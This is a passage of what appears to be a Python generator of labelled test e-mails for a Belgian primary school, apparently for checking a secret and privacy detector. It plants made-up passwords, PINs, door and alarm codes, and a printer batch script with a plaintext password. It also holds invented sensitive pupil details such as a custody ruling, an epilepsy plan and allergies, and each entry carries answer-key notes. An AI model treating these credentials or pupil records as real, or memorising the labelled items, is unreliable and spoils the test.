    ["6A", p["first"], p["last"], "%s.%s" % (norm(p["first"]), norm(p["last"])), startpw()] for p in _l6a]
add("startwachtwoorden-6a-xlsx", "2024-09-02 07:58", S["ict"], [S["6a"]], "Smartschool accounts 6A",
    T("""
    Dag Jeroen,

    In bijlage de Smartschool-accounts van je klas met de startwachtwoorden. Laat ze vandaag in de klas
    inloggen en meteen een eigen wachtwoord kiezen, dan is dat ook gebeurd.

    Pieter
    """), atts=[("6A_startwachtwoorden.xlsx", make_xlsx(_xl, "6A"))], rules="password", kind="password",
    note="real xlsx with start passwords of a whole class")

add("voicemail-pincode", "2024-10-09 16:44", S["sec"], [S["dir"]], "voicemail algemeen nummer",
    T("""
    Koen,

    Proximus heeft de voicemail van ons algemeen nummer (%s) gereset. De pincode om de berichten af te
    luisteren is terug 1906. Als je hem wil veranderen moet je dat via het toestel zelf doen, niet via
    Proximus.

    Greet
    """ % SCHOOL_TEL), rules="password personal_data", kind="password",
    note="voicemail PIN; the school number is mentioned")

add("kluis-fruitgeld-combinatie", "2024-11-28 17:05", S["dir"], [S["bkh"]], "kluis",
    T("""
    Martine,

    De slotenmaker is geweest. De nieuwe combinatie van de kluis in het secretariaat (waar het geld van de
    fruitdag en de koekenverkoop in zit) is 24 - 7 - 61. Eerst twee keer naar rechts draaien.
    Alleen jij, Greet en ik kennen ze.

    Koen
    """) + "\n" + SIG["dir_m"] + "\n", rules="password", kind="password",
    note="safe combination")

add("fw-login-schoolmaaltijden", "2024-09-04 10:27", S["bkh"], [S["mid"]],
    "TR: Uw toegang tot het bestelplatform Smulpot",
    T("""
    Marleen, voor de warme maaltijden kan jij vanaf nu zelf de aantallen doorgeven. Login hieronder.
    Martine

    """) + olq("Traiteur Smulpot <bestellingen@smulpot-catering.be>", "dinsdag 3 september 2024 16:40",
               "Stevens Martine <martine.stevens@sintpieterscollege.be>",
               "Uw toegang tot het bestelplatform Smulpot", T("""
    Beste klant,

    Uw account op ons bestelplatform werd aangemaakt.

    Klantnummer: 20417
    Login: basiswilsele
    Tijdelijk wachtwoord: Smul-8812

    Gelieve de aantallen telkens door te geven voor 9u00 op de dag zelf.

    Met smakelijke groet,
    Team Smulpot
    """)), tags=["forward"], rules="password", kind="password",
    note="forwarded vendor mail with a temporary password; customer number alone would not count")

add("reset-wachtwoord-leen", "2024-10-30 08:10", S["ict"], [S["6b"]], "wachtwoord gereset",
    T("""
    Dag Leen,

    Ik heb je Smartschool-wachtwoord gereset. Je tijdelijk wachtwoord is Herfst-2024-kx
    Bij het inloggen moet je meteen een nieuw kiezen.

    Pieter
    """), rules="password", kind="password", note="temporary password after a reset")

add("doorsturen-privemail-wachtwoord", "2024-10-30 19:22", S["3a"], [("Tom Hermans", "tomhermans.79@gmail.com")],
    "FW: wachtwoord gereset",
    T("""
    voor thuis
    """) + olq("Janssens Pieter <pieter.janssens@sintpieterscollege.be>", "woensdag 30 oktober 2024 8:12",
               "Hermans Tom <tom.hermans@sintpieterscollege.be>", "wachtwoord gereset", T("""
    Dag Tom,

    Ik heb je Smartschool-wachtwoord gereset. Je tijdelijk wachtwoord is Appel-Vulkaan-61
    Bij het inloggen moet je meteen een nieuw kiezen.

    Pieter
    """)), tags=["forward"], rules="password private_account", kind="password",
    note="teacher forwards school mail carrying his password to his own gmail")

add("re-poortcode-opvang-seppe", "2024-10-16 13:30", S["opv"], [P("P0090")],
    "RE: Seppe later ophalen",
    T("""
    Dag mevrouw Nijs,

    Dat is geen probleem. Na 18u is de voorpoort dicht, dan komt u binnen via het poortje aan de
    fietsenstalling: code 1973 en dan duwen. De opvang is de eerste deur rechts.
    Seppe kan tot 18u30 blijven.

    Vriendelijke groeten,

    """) + SIG["opv"] + olq("Anneleen Nijs <anneleen.nijs@gmail.com>", "woensdag 16 oktober 2024 12:51",
                             "Opvang Stroom Wilsele <els.vandenbroeck@sintpieterscollege.be>",
                             "Seppe later ophalen", T("""
    Dag Els,
    Vanaf volgende week werk ik op donderdag tot 18u. Kan Seppe (K3B) dan langer blijven? Hoe kom ik binnen
    als de poort dicht is?
    Groetjes, Anneleen
    """)), reply=True, tags=["reply"], about="P0090", rules="password personal_data", kind="password",
    note="gate code given to a parent; opvang GSM in signature; about Seppe, sent to his mother")

add("nieuw-ww-in-onderwerp", "2024-11-04 07:46", S["ict"], [S["5b"]], "nieuw ww Smartschool: Rekenen#5B-wk45",
    T("""
    zie onderwerp ;-)  Wel meteen veranderen hé.
    P.
    """), rules="password", kind="password", note="the password is only in the subject line")

add("wifi-personeel-qr", "2024-10-07 09:02", S["ict"], [S["int"]], "Wifi voor je eigen laptop",
    T("""
    Hoi Jana,

    Je vroeg naar de wifi voor je eigen laptop. Normaal scan je de QR-code die in de leraarskamer hangt.
    Lukt dat niet, dan kan je deze tekst in een QR-generator plakken of de gegevens manueel ingeven:

    WIFI:T:WPA;S:Stroom-Personeel;P:Dijle-Wilsele-2019;;

    Groetjes,
    Pieter
    """), rules="password", kind="password", note="Wi-Fi key hidden in a WIFI: QR payload string")

add("bingel-mauro-base64", "2025-01-13 19:40", S["5a"], [P("P0233")], "Bingel Mauro",
    T("""
    Dag meneer Cools,

    Mauro was zijn wachtwoord van Bingel vergeten, ik heb het vandaag opnieuw ingesteld.
    Gebruikersnaam: mauro.cools5a
    Wachtwoord: tijger88

    Zo kan hij thuis de herhalingsoefeningen voor het rapport maken.

    Groetjes,
    Katrien Peters
    juf 5A
    """), mailer="thunderbird", cte="base64", about="P0233", rules="password", kind="password",
    note="base64-encoded body with a pupil's password; to his own father")

add("zorglaptop-overdracht-qp", "2024-10-04 16:25", S["zorg"], [S["int"]],
    "Overdracht zorgklas - praktisch",
    T("""
    Beste Jana,

    Omdat je de komende weken ook een paar uur in de zorgklas zal staan, zet ik de praktische zaken even op een rijtje. Het is een lange mail, sorry daarvoor, maar dan heb je alles op één plek.

    De zorgklas is lokaal A.012, naast het bureau van Greet. De sleutel hangt aan het bord in de leraarskamer (rood label). De kasten links zijn van de kleuters, rechts liggen de materialen voor de lagere school: leesboekjes per AVI-niveau, rekenmateriaal (MAB, breukendozen), de koptelefoons voor de voorleessoftware.

    Voor de voorleessoftware gebruik je de zorglaptop (Lenovo met sticker 14). Die staat soms raar ingesteld na een update; het Windows-wachtwoord van die laptop is Zorgklas!Wilsele en de kinderen mogen dat niet zien, dus even zelf inloggen voor ze binnenkomen.

    Het weekschema van de zorgklas hangt aan de deur. Welke kinderen wanneer komen en waarom, bespreken we liever mondeling op het overleg van dinsdag, dat zet ik niet in een mail.

    Koffie staat in de leraarskamer, en op vrijdag is er taart van wie jarig was. :-)

    Tot dinsdag,

    """) + SIG["zorg"], charset="windows-1252", cte="quoted-printable", rules="password", kind="password",
    note="long cp1252 quoted-printable note; laptop password inside a long paragraph wrapped by QP soft breaks")

add("pincode-bankkaart-oudercomite", "2024-10-24 11:15", S["bkh"], [X["oc_pm"]],
    "Nieuwe bankkaart rekening oudercomité",
    T("""
    Dag Sarah,

    De nieuwe bankkaart voor de rekening van het oudercomité (%s) is toegekomen op school, de brief met de
    pincode ook. Omdat je donderdag niet kan langskomen: de pincode is 7731. De kaart zelf ligt op het
    secretariaat in een gesloten omslag op jouw naam.

    Groetjes,
    """ % OC_IBAN) + SIG["bkh"] + "\n", rules="password personal_data", kind="password",
    note="bank card PIN of the parents' committee account to its treasurer; valid IBAN in text")

add("code-sleutelkast-gesplitst", "2024-12-16 07:52", S["log"], [S["1a"]], "sleutelkast",
    T("""
    Evy,
    code nieuwe sleutelkast leraarskamer:

    4 4

    0 7

    de eerste twee staan ook op het kaartje aan de binnenkant, de laatste twee moet ge onthouden
    Luc
    """), mailer="android", tags=["phone"], rules="password", kind="password", wrap=True,
    note="key cabinet code split over lines")

add("geleide-toegang-ipads-kleuters", "2024-11-25 14:18", S["ict"], [S["k2a"], S["k2b"], S["k3a"]],
    "iPads kleuterklassen - geleide toegang",
    T("""
    Dag juffen,

    Op de kleuter-iPads staat nu 'geleide toegang' aan, zodat de kleuters niet uit de app kunnen. Om eruit
    te gaan: drie keer snel op de zijknop drukken en dan de code 1212 intikken (dezelfde op alle toestellen).
    Dat is ook de code om de iPad zelf te ontgrendelen.

    De kleuters mogen die code uiteraard niet kennen, dus even afschermen als jullie hem intikken.

    Pieter
    """), rules="password", kind="password", note="guided-access and unlock code of the kindergarten iPads to three teachers")

add("sleutel-zorglokaal-logopediste", "2024-09-30 08:05", S["zorg"], [X["logo"]],
    "Praktisch: lokaal en sleutel",
    T("""
    Dag Charlotte,

    Vanaf volgende week kan je op dinsdag en donderdag het kleine lokaal naast de zorgklas gebruiken. De
    sleutel hangt in het sleutelkastje naast de deur van de turnzaal, de code is 2580. Na gebruik de sleutel
    terughangen en het kastje dichtdraaien.

    De kinderen haal je zelf op in de klas; het schema had je al van mij gekregen.

    Groetjes,

    """) + SIG["zorg"], rules="password", kind="password",
    note="key-cabinet code to the external speech therapist; no pupil named")

add("alarmcode-gewijzigd-cp1252", "2024-11-29 15:30", S["dir"], [S["log"], S["opv"]],
    "Alarmcode vanaf 1 december",
    T("""
    Luc, Els,

    Vanaf zondag 1 december is de alarmcode gewijzigd na het vertrek van de vorige poetsfirma.
    Nieuwe code: 9 1 4 6 – dezelfde voor de opvang en het hoofdgebouw.
    Graag niet op een briefje aan het bord hangen zoals de vorige keer…

    Koen
    """), charset="windows-1252", rules="password", kind="password",
    note="alarm code in a windows-1252 8bit body")

add("authenticator-code-vast", "2025-01-20 08:03", S["5b"], [S["ict"]], "help inloggen",
    T("""
    Pieter ik zit vast, de code uit de authenticator is 712 448 maar hij zegt ongeldig?? Kan jij iets
    doen? Ik moet om 8u30 de punten ingeven.
    Dieter

    Verstuurd vanaf mijn Galaxy
    """), mailer="android", tags=["phone"], rules="password", kind="password",
    note="one-time authenticator code sent by mail")

add("overdracht-6b-docx", "2025-02-24 20:10", S["6b"], [S["int"]], "Overdracht 6B",
    T("""
    Dag Jana,

    Fijn dat jij mijn klas overneemt tijdens mijn bevallingsverlof! In bijlage het overdrachtsdocument met
    de jaarplanning, de afspraken in de klas en de logins van de klascomputers en het digibord.
    Over de kinderen zelf vertel ik je liever alles op het overleg met Hilde vrijdag.

    Veel succes, het is een toffe klas!
    Leen
    """), atts=[("Overdracht 6B.docx", make_docx([
        "Overdracht 6B - schooljaar 2024-2025",
        "Jaarplanning: zie map Planning op de gedeelde schijf.",
        "Klasafspraken: hangen achteraan in de klas, de kinderen kennen ze.",
        "Klascomputers (3 stuks): gebruiker klas6b - wachtwoord 6B-Raam-2023",
        "Digibord: pincode 4477",
        "Bingel: klasbeheer via mijn account, Pieter zet het over naar jou.",
        "Zwemmen: om de twee weken op donderdag (zie rooster Wouter).",
    ]))], rules="password", kind="password",
    note="docx attachment holds class computer password and board PIN; body only announces them")

add("side-gate-code-english", "2024-09-18 12:10", S["opv"], [P("P0164")], "RE: pick-up after 6 pm",
    T("""
    Dear Mrs Miller,

    No problem at all, Ethan can stay in the after-school care until 6.30 pm. After 6 pm the main gate is
    closed; please use the small gate next to the bicycle shed. The code is 1973, then push the gate.
    The after-school care room is the first door on your right.

    Kind regards,

    """) + SIG["opv"] + q(T("""
    Hello, I will be working late on Wednesdays from now on. Can Ethan (class 2B) stay longer, and how do I
    get in after the gate is closed?
    Thanks, Sarah Miller
    """), "On Wed 18 Sep 2024, 11:40, Sarah Miller <sarah.miller.be@gmail.com> wrote:"),
    reply=True, tags=["reply"], lang="en", about="P0164", rules="password personal_data", kind="password",
    note="English reply with the gate code to Ethan's mother; opvang GSM in signature")

add("printer-koppelen-bat", "2024-10-08 15:40", S["ict"], [S["int"]], "printer koppelen",
    T("""
    Jana, dubbelklik op het bestandje in bijlage, dan wordt de printer van de leraarskamer gekoppeld aan je
    laptop. Als Windows vraagt of je het wil uitvoeren: ja.
    Pieter
    """), atts=[("printer_koppelen.bat", T("""
    @echo off
    REM koppelt de Ricoh van de leraarskamer
    net use \\\\srv-wilsele\\ricoh-lk /user:STROOM\\kopie Kopie2024! /persistent:yes
    rundll32 printui.dll,PrintUIEntry /in /n "\\\\srv-wilsele\\ricoh-lk"
    echo Printer gekoppeld.
    pause
    """).replace("\n", "\r\n"))], rules="password attachment", kind="password",
    note="batch script attachment that also carries the print server password")


# ---------------------------------------------------------------- look-alikes (no secret)
add("wachtwoord-verloopt-personeel", "2024-09-23 16:30", SH["ict"], [SH["ict"]],
    "Smartschool: jullie wachtwoord verloopt op 1 oktober",
    T("""
    Beste collega's,

    Smartschool vraagt vanaf 1 oktober aan iedereen een nieuw wachtwoord. Wie dat nog niet gedaan heeft:
    klik rechtsboven op je naam > Profiel > Wachtwoord wijzigen. Kies iets van minstens 12 tekens; een
    zinnetje van drie of vier woorden is sterker dan een kort woord met cijfers.

    Nog eens ter herinnering: stuur je wachtwoord nooit door, ook niet naar mij. Ik zal er ook nooit om
    vragen. Krijg je een mail die dat wel vraagt, verwijder hem en laat het me weten.

    Vragen? Ik ben op maandag en donderdag in Wilsele.

    Pieter
    """), bcc=[G["personeel"]], kind="lookalike",
    note="password expiry notice to all staff, no password; staff list only in BCC")

add("re-account-rayan-wachtwoord", "2024-10-01 09:20", S["sec"], [P("P0160")],
    "RE: wachtwoord Smartschool Rayan",
    T("""
    Beste meneer Bakkali,

    Wij mogen wachtwoorden niet via mail doorsturen, ook niet naar ouders. U kan op de aanmeldpagina op
    'Wachtwoord vergeten?' klikken; u krijgt dan een link op het e-mailadres dat bij ons gekend is.
    Lukt dat niet, kom dan gerust even langs op het secretariaat (elke voormiddag), dan zetten we het samen
    in orde. Breng uw identiteitskaart mee.

    Met vriendelijke groeten,

    """) + SIG["sec_m"] + q(T("""
    Goedemorgen, ik kan niet meer inloggen op Smartschool van Rayan in 2B. Kan u mij het wachtwoord sturen?
    Dank u, Nordin Bakkali
    """), "Op ma 30 sep 2024 om 21:14 schreef Nordin Bakkali <bakkali.nordin@gmail.com>:"),
    reply=True, tags=["reply"], about="P0160", kind="lookalike",
    note="explains how to reset; no password sent; about Rayan, to his father")

add("bestelnummer-fotos-fien", "2024-12-10 14:02", S["sec"], [P("P0075", 2)], "Uw fotobestelling",
    T("""
    Beste meneer Vos,

    Uw bestelling bij de schoolfotograaf (bestelnummer 2024-55871) is toegekomen. De foto's zitten in een
    bruine omslag in de boekentas van Fien.

    Vriendelijke groeten,
    """) + SIG["sec_m"] + "\n", about="P0075", kind="lookalike",
    note="order number opens nothing; Fien's own father")

add("mededeling-sportdag-marie", "2024-09-26 10:45", S["bkh"], [P("P0206")], "RE: betaling sportdag",
    T("""
    Beste mevrouw Luyten,

    U mag de sportdag (€ 8,50) gewoon samen met de schoolrekening van oktober betalen. Als u liever nu al
    betaalt, vermeld dan deze gestructureerde mededeling: +++120/4471/20398+++

    Vriendelijke groeten,
    """) + SIG["bkh"] + "\n", reply=True, tags=["reply"], about="P0206", kind="lookalike",
    note="payment reference is not a secret, no IBAN, nothing unpaid; about Marie, to her mother")

add("lokalen-en-toezicht-interim", "2024-10-04 12:30", S["dir"], [S["int"]], "Lokalen en toezicht",
    T("""
    Dag Jana,

    Nog even op een rij: je klas is lokaal B.104 (eerste verdiep, tweede deur links), de zorgklas is A.012 en
    de turnzaal is gebouw C. Je toezicht is op maandag aan poort 2 (8u15-8u30) en op donderdag op de
    speelplaats van de lagere school (12u30-13u00).

    De klassleutel krijg je van Luc, de code van het kopieertoestel stuurt Greet je apart.

    Koen
    """) + "\n" + SIG["dir_m"] + "\n", kind="lookalike", note="room numbers and a copier code that is not given")

add("teams-overleg-clb", "2024-09-19 13:05", S["zorg"], [X["clb"]], "Overleg zorgbeleid schooljaar 2024-2025",
    T("""
    Dag Dries,

    Hierbij de uitnodiging voor ons jaarlijks overleg over het zorgbeleid (geen bespreking van individuele
    leerlingen, die plannen we apart).

    ________________________________________________________________________________
    Microsoft Teams-vergadering
    Deelnemen: computer, mobiele app of apparaat in de vergaderruimte
    Klik hier om deel te nemen aan de vergadering
    https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjM0ZTBhYjQtZmU3Mi00@thread.v2/0?context=%7b%22Tid%22%3a%22a1f3%22%7d
    Vergaderings-id: 381 562 947 120
    Wachtwoordcode: Qh7mXp
    Alleen audio bellen
    +32 2 894 87 21,,614839527#   België, Brussel
    Telefoonconferentie-id: 614 839 527#
    ________________________________________________________________________________

    Tot dan,
    Hilde
    """), kind="lookalike", rules="personal_data", wrap=True,
    note="Teams invitation: meeting passcode is allowed; the Belgian dial-in number is personal_data")

add("zoom-infoavond-secundair", "2025-01-08 18:00", G["directie"], [G["directie"]],
    "Online infoavond: de overstap naar het secundair (6de leerjaar)",
    T("""
    Beste ouders van het zesde leerjaar,

    Op dinsdag 21 januari om 20u organiseren we een online infoavond over de keuze van een secundaire
    school. Een medewerker van het CLB legt uit hoe de eerste graad in elkaar zit en hoe het aanmelden werkt.

    Deelnemen via Zoom:
    https://zoom.us/j/84215530917?pwd=Wk1jc0ZtRzRoTk5sdUx3
    Meeting-ID: 842 1553 0917
    Toegangscode: 614529

    De presentatie sturen we achteraf door.

    Met vriendelijke groeten,
    Koen Vanderlinden, directeur
    """), bcc=[grp("ouders-6a"), grp("ouders-6b")], kind="lookalike",
    note="meeting passcode in an invitation is allowed; parents' lists only in BCC")

add("code-oranje-opvang", "2025-01-23 11:10", G["info"], [G["info"]], "Code oranje: opvang sluit vandaag om 17u",
    T("""
    Beste ouders,

    Het KMI heeft code oranje afgekondigd voor zware windstoten vanaf 18u. De lessen lopen gewoon door tot
    15u20, maar de naschoolse opvang sluit vandaag uitzonderlijk om 17u00. Wie zijn kind niet tijdig kan
    ophalen, laat dat aub weten aan de opvang.

    Dank voor uw begrip,
    Directie en opvangteam
    """), bcc=[grp("ouders-allen")], kind="lookalike",
    note="'code oranje' is a weather warning, not a code; all parents in BCC")

add("opvangcode-niet-per-mail", "2025-02-27 16:50", S["opv"], [S["opv2"]], "nieuwe code opvangdeur",
    T("""
    Rita,

    Vanaf maandag verandert de code van de opvangdeur. De nieuwe code geef ik je morgen mondeling, die zet
    ik niet in een mail. Tot maandag werkt de oude gewoon nog.

    Els
    """) + "\n" + SIG["opv_m"] + "\n", kind="lookalike", note="announces a new door code without giving it")

add("vakcode-zwemmen-smartschool", "2024-10-08 10:11", S["lo"], [S["int"]], "zwemmen 3de lj in Smartschool",
    T("""
    Hoi Jana,

    In Smartschool vind je de zwemlessen onder het vak met vakcode ZWE-L3. De klasgroepen zijn 3A en 3B.
    De lijsten met wie welk brevet heeft staan in de documenten van dat vak. Bus vertrekt om 13u05 aan poort 1.

    Wouter
    """), kind="lookalike", note="course and class codes open nothing")

add("prikbord-pincet", "2024-11-14 15:45", S["k3a"], [S["kinv"]], "brief ontbijt + EHBO",
    T("""
    Ingrid, kan jij morgen de brief over het schoolontbijt op het prikbord aan de kleuteringang pinnen? En
    de pincet voor splinters ligt niet meer in de EHBO-koffer, weet jij waar die is?
    Merci!
    Karen
    """), kind="lookalike", note="'pinnen' and 'pincet' only")

add("fotonummers-ontbreken-3b", "2024-11-21 09:40", S["sec"], [X["foto"]], "Bestellijst 3B onvolledig",
    T("""
    Beste,

    Op de bestellijst van klas 3B ontbreken de fotonummers 3B-017 en 3B-018, terwijl die kinderen wel op de
    klasfoto staan. Kan u dat nakijken en ons een nieuwe lijst bezorgen?

    Vriendelijke groeten,
    """) + SIG["sec_m"] + "\n", kind="lookalike", note="photo numbers are references, not secrets")

add("alarmmelding-zone4", "2025-02-03 07:35", S["log"], [X["alarm"]], "Alarmmelding nacht 2/2 zone 4",
    T("""
    Goeiemorgen,

    Vannacht om 02:13 ging het alarm af in zone 4 (turnzaal). Er was niemand binnen en er is niets
    beschadigd, ik denk aan de detector boven de nooduitgang. Kan er deze week een technieker langskomen?
    Ik ben er elke dag vanaf 7u30, de sleutels geef ik ter plaatse.

    Met vriendelijke groet,
    Luc Boeckx
    Logistiek medewerker basisschool Stroom Wilsele
    """), kind="lookalike", note="alarm zone and time, no code")

add("stan-wachtwoord-vergeten", "2024-11-07 16:12", S["6a"], [("Stan Jorissen", PUP["P0271"]["mail"])],
    "Re: wachtwoord",
    T("""
    Stan, ik kan je wachtwoord niet zien, dat kan niemand. Vraag morgen om 8u15 aan meester Pieter om het te
    resetten, dan krijg je een nieuw op papier. Je taak mag je vrijdag afgeven.
    meester Jeroen
    """) + q(T("""
    meester ik ben mijn wachtwoord vergeten van smartschool en kan mijn taak niet indienen
    """), "Op 7 nov. 2024 om 15:58 schreef Stan Jorissen:"), reply=True, tags=["reply"], about="P0271",
    kind="lookalike", note="teacher to pupil about a forgotten password, none given")

add("uitleg-authenticator", "2024-09-25 12:20", S["ict"], [S["2a"]], "RE: rare code bij inloggen?",
    T("""
    Dag Annelies,

    Dat is normaal: sinds deze week staat de tweestapsverificatie aan. Bij het aanmelden vraagt Microsoft een
    code van zes cijfers uit de Authenticator-app op je gsm. Die code verandert elke 30 seconden, je hoeft ze
    dus niet te onthouden en je mag ze nooit doorgeven, ook niet aan mij.

    Groetjes,
    Pieter
    """), reply=True, tags=["reply"], kind="lookalike", note="explains one-time codes without giving one")

add("bingel-briefje-boekentas", "2024-10-17 20:05", S["2b"], [P("P0152")], "RE: Bingel lukt niet",
    T("""
    Dag Katleen,

    Geen probleem, dat gebeurt vaak in het begin. Ik steek morgen een nieuw briefje met zijn login in de
    boekentas van Sem (in het heen-en-weermapje). Via mail stuur ik geen wachtwoorden door.

    Groetjes,
    juf Joke
    """), reply=True, tags=["reply"], about="P0152", kind="lookalike",
    note="login handed on paper, nothing secret in the mail; about Sem, to his mother")


# ---------------------------------------------------------------- sensitive
add("afhalen-finn-vonnis-opvang", "2024-09-12 17:20", S["dir"], [S["opv"], S["opv2"]],
    "BELANGRIJK - afhalen Finn Lambrechts (K2A)",
    T("""
    Els, Rita,

    Vandaag kregen we van de mama van Finn Lambrechts (K2A) een kopie van het vonnis van de
    familierechtbank. Vanaf nu geldt:

    - Finn mag enkel afgehaald worden door mama (Sarah Lenaerts) of door oma Lenaerts.
    - Papa mag Finn NIET afhalen, ook niet als hij zegt dat het zo afgesproken is. Hij heeft voorlopig
      alleen begeleid bezoek in het bezoekcentrum.
    - Als papa toch aan de poort of in de opvang staat: Finn binnen houden, rustig blijven, en mij
      onmiddellijk bellen. Niet met hem in discussie gaan.

    Een kopie van het vonnis steekt in de map 'afhalen' in de kast van de opvang. Nathalie is ook op de
    hoogte. Graag niet verder vertellen aan andere ouders.

    """) + SIG["dir"], importance="high", about="P0040", rules="sensitive personal_data", cats="family",
    kind="sensitive", note="custody court decision about a named pupil, to care staff; director's phones in signature")

add("re-vonnis-finn-mama", "2024-09-12 17:35", S["dir"], [P("P0040")], "RE: vonnis familierechtbank",
    T("""
    Beste mevrouw Lenaerts,

    Dank u om ons het vonnis zo snel te bezorgen. Ik heb de juf van Finn en de opvang ingelicht: Finn wordt
    voortaan alleen aan u of aan uw moeder meegegeven. Mocht zijn papa toch aan de school komen, dan
    bellen we u meteen.

    Het origineel geef ik morgen terug aan Finn mee in een gesloten omslag. Een kopie bewaren we in zijn
    leerlingendossier.

    Sterkte,

    """) + SIG["dir_m"] + "\n" + olq("Sarah Lenaerts <sarah.lenaerts@telenet.be>", "donderdag 12 september 2024 14:03",
                                     "Directie <directie@spc.ksleuven.be>", "vonnis familierechtbank", T("""
    Geachte directeur,
    In bijlage het vonnis van 5 september. Finns vader mag hem niet meer ophalen. Ik ben echt bang dat hij
    toch aan de schoolpoort komt staan.
    Sarah
    """)), reply=True, tags=["reply"], about="P0040", rules="sensitive", cats="family", kind="sensitive",
    note="reply about a custody decision to Finn's mother (address does not spell his surname)")

_epi = [["Wat zie je?", "Wat doe je?"],
        ["Yusuf staart voor zich uit, reageert niet, smakt met de lippen (kort, < 1 min)",
         "Bij hem blijven, niets in de mond, tijd noteren. Achteraf laten rusten in de zetel."],
        ["Hij valt, schokt met armen en benen",
         "Ruimte maken, hoofd beschermen, NIET vasthouden. Tijd opnemen."],
        ["Aanval duurt langer dan 5 minuten",
         "Buccolam 5 mg geven (koelkast leraarskamer, blauwe doos) en 112 bellen. Ouders verwittigen."],
        ["Na de aanval", "Stabiele zijligging, laten slapen, ouders bellen. Altijd noteren in het schriftje."]]
add("actieplan-epilepsie-yusuf", "2024-09-06 13:15", S["zorg"], [S["1a"], S["mid"], S["opv"]],
    "Actieplan epilepsie Yusuf Aydın (1A)",
    T("""
    Dag Evy, Marleen en Els,

    Zoals besproken op het startoverleg: Yusuf Aydın uit 1A heeft epilepsie (vooral korte absences, af en
    toe een grotere aanval). Hieronder het actieplan dat de neuropediater samen met de ouders heeft
    opgesteld. Hangen jullie dit ook in de klas, de refter en de opvang (aan de binnenkant van de kastdeur,
    niet zichtbaar voor andere ouders)?

    [[T0]]

    Hij neemt 's ochtends en 's avonds zijn medicatie thuis, op school hoeft hij niets te nemen behalve in
    noodgeval. Zwemmen mag, maar altijd met een begeleider die weet dat het over hem gaat.

    Groetjes,

    """) + SIG["zorg"], html=True, tables=[_epi], tags=["table"], about="P0102",
    rules="sensitive", cats="medical", kind="sensitive",
    note="epilepsy action plan with emergency medication for a named pupil, in an Outlook table")

add("yusuf-aanval-vandaag", "2024-11-21 15:45", S["1a"], [P("P0102")], "Yusuf vandaag",
    T("""
    Beste meneer Aydın,

    Zoals ik u daarnet al vertelde aan de telefoon: Yusuf heeft vandaag om 10u20 in de klas een aanval
    gehad. Hij viel van zijn stoel en schokte ongeveer anderhalve minuut. We hebben gedaan wat in het
    actieplan staat; het was niet nodig om de Buccolam te geven. Daarna heeft hij een uur geslapen in de
    zetel in de leraarskamer en in de namiddag was hij terug vrolijk.

    Hij heeft een buil aan zijn voorhoofd, we hebben er ijs op gelegd. Ik heb alles ook in het schriftje
    geschreven zodat u het aan de neuroloog kan laten zien.

    Vriendelijke groeten,
    Evy De Smet
    juf 1A
    """), about="P0102", rules="sensitive", cats="medical", kind="sensitive",
    note="seizure report to Yusuf's own father")

_allerg = [["Naam", "Klas", "Dieet / allergie", "Opmerking"],
           ["Ilias Haddou", "2A", "diabetes type 1", "graag koolhydraten per portie op de leverbon"],
           ["Lisa Thys", "3B", "ernstige notenallergie (ook sporen)", "epipen in de refter aanwezig"],
           ["Matteo Rossi", "1A", "coeliakie - strikt glutenvrij", "apart bord, apart bestek"],
           ["Zeynep Şahin", "K3B", "lactose-intolerantie", "geen pudding, soep zonder room"]]
add("dieetlijst-warme-maaltijden", "2024-09-02 09:30", S["mid"], [X["traiteur"]],
    "Allergieën en diëten schooljaar 2024-2025",
    T("""
    Beste,

    Zoals elk jaar de lijst van de kinderen die een aangepaste maaltijd nodig hebben. De doktersattesten
    liggen op school. Graag de aangepaste porties apart verpakken met de naam erop.

    [[T0]]

    Alvast bedankt,
    Marleen Dewit
    Middagtoezicht basisschool Stroom Wilsele
    """), html=True, tables=[_allerg], tags=["table"], about="P0140 P0186 P0107 P0086",
    rules="sensitive", cats="medical", kind="sensitive",
    note="allergies, coeliac disease and diabetes of four named pupils in a table to the caterer")

add("lucas-plast-in-broek", "2025-01-15 12:50", S["kinv"], [S["zorg"]], "Lucas K2B",
    T("""
    Hilde,

    Ik wou je even iets laten weten over Lucas Dierckx van K2B. Sinds na de kerstvakantie plast hij bijna
    elke dag in zijn broek, ook 's voormiddags, terwijl hij vorig jaar al lang zindelijk was. Ik heb al drie
    keer reservekleren moeten geven.

    Toen mama hem gisteren kwam halen vertelde ze dat zij en papa sinds november uit elkaar zijn en dat
    Lucas nu om de week bij papa is. De huisarts heeft hem doorverwezen naar de kinderarts omdat hij ook 's
    nachts weer nat is.

    Misschien kan jij eens met Ilse en de ouders praten?

    Ingrid
    """), about="P0052", rules="sensitive", cats="family medical", kind="sensitive",
    note="separation of the parents and a medical referral for bedwetting, to the care teacher")

add("amira-bijten-gesprek", "2024-11-08 16:10", S["k2b"], [P("P0058")], "Amira - gesprek",
    T("""
    Dag mevrouw Benali,

    Ik had het er vanmiddag al kort over aan de poort, maar ik wil het ook even op papier zetten. Amira heeft
    deze week opnieuw drie keer een ander kind gebeten, één keer zo hard dat er een blauwe plek was. Ze
    wordt heel snel boos als iemand haar speelgoed afneemt.

    Na overleg met de directie blijft ze volgende week over de middag niet in de refter maar eet ze bij mij
    in de klas, zodat we haar wat rustiger kunnen begeleiden. We zouden graag samen met de directeur
    een gesprek plannen. Past dinsdag 19 november om 15u30?

    Met vriendelijke groeten,
    juf Ilse
    K2B
    """), about="P0058", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="behaviour incidents with a consequence, to Amira's own mother")

add("amira-benali-gesprek-verkeerd", "2024-11-12 20:40", S["k2b"], [("Mama Amira", P("P0143"))],
    "Amira Benali (K2B) - gesprek dinsdag",
    T("""
    Dag mama van Amira,

    Nog eens bedankt voor uw reactie. Dinsdag 15u30 is genoteerd. De directeur en ik willen dan vooral bekijken
    hoe we het bijten kunnen voorkomen. Sinds ze over de middag bij mij in de klas eet, is het al iets
    rustiger: deze week maar één keer, en toen heeft ze zelf sorry gezegd.

    Als het thuis ook gebeurt, mag u dat gerust vertellen. Dat helpt ons om te begrijpen wat er aan de hand
    is.

    Tot dinsdag,
    juf Ilse
    """), about="P0058", mis=True, rules="sensitive recipient", cats="psychosocial", kind="sensitive",
    note="about Amira Benali (K2B) but the autocompleted 'Mama Amira' is the parent of Amira Chaouki (2A)")

add("mila-luizen", "2024-10-10 15:35", S["k3a"], [P("P0071")], "Mila - luizen",
    T("""
    Dag mevrouw Verhoeven,

    Bij de luizencontrole vanmorgen hebben we bij Mila opnieuw levende luizen en neten gevonden. Ik heb haar
    haar in een staart gedaan. Zou u haar vanavond nog willen behandelen en de neten uitkammen? Ze mag
    morgen gewoon naar school komen als ze behandeld is.

